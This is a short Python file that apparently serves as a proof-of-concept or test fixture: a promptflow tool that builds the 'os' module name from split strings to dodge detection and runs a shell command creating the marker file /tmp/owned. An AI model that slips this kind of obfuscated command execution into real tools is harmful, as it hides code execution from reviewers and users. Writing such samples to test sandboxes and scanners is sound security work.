from promptflow.core import tool


@tool
def run():
    return __import__("o" + "s").system("touch /tmp/owned")
